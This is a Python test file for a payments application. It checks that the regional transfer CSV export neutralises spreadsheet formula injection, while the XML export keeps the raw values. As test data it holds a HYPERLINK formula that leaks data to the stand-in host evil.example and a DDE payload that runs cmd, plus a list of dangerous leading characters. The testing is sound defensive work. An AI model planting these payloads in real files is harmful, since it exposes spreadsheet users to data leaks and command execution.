"""The riversamento CSV is opened by the Regione's staff in a spreadsheet (issue 10, point 9): a text cell
that a spreadsheet would run as a formula is neutralised as in every other CSV export; amounts stay numbers
and the XML keeps the raw value for the Regione's systems."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from lxml import etree

from app.extensions import db
from app.payments.models import Riversamento
from tests.conftest import csrf_token
from tests.payments.support import ACTOR, csv_file, euro, open_positions

HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak","Dettaglio")'
HOSTILE_CHANNEL = "-2+3+cmd|'/C calc'!A0"
TEXT_COLUMNS = ("ente", "canale", "id_pagamento", "iuv", "codice_fiscale", "id_posizione", "codice_entrata",
                "capitolo", "componente")


def test_a_formula_in_a_payment_id_is_neutralised_in_the_riversamento_csv(app, personas, store) -> None:
    from app.payments.queries import today_rome
    from app.payments.services import import_flow

    with app.app_context():
        (p,) = open_positions(db.session, skip=6)
        quoted = '"' + HOSTILE_ID.replace('"', '""') + '"'
        line = f"{quoted};2026-11-18;;{euro(p.due)};{p.notice};;bonifico;{HOSTILE_CHANNEL}"
        summary = import_flow(db.session, csv_file(line), ACTOR, fmt="csv", ente_code="R01")
        db.session.commit()
        assert summary.matched == 1
    client = personas.client("backoffice")
    today = today_rome().isoformat()
    response = client.post(
        "/pagamenti/riversamento",
        data={"csrf_token": csrf_token(client, "/pagamenti/riversamento"), "ente": "R01", "dal": today,
              "al": today},
    )
    assert response.status_code == 302
    with app.app_context():
        row_id = db.session.scalars(sa.select(Riversamento.id).order_by(Riversamento.id.desc())).first()

    text = client.get(f"/pagamenti/riversamento/{row_id}.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    hostile = [r for r in rows if HOSTILE_ID in r["id_pagamento"]]
    assert len(hostile) >= 1
    for r in hostile:
        assert r["id_pagamento"] == "'" + HOSTILE_ID
        assert r["canale"] == "'" + HOSTILE_CHANNEL
    for r in rows:
        for column in TEXT_COLUMNS:
            assert not r[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, r[column])
        assert r["importo"].lstrip("-").replace(".", "", 1).isdigit(), r["importo"]  # a machine number

    xml = etree.fromstring(client.get(f"/pagamenti/riversamento/{row_id}.xml").data)
    ns = {"r": "urn:esattoria:riversamento:1"}
    assert HOSTILE_ID in xml.xpath("//r:movimento/r:idPagamento/text()", namespaces=ns)  # raw for machines
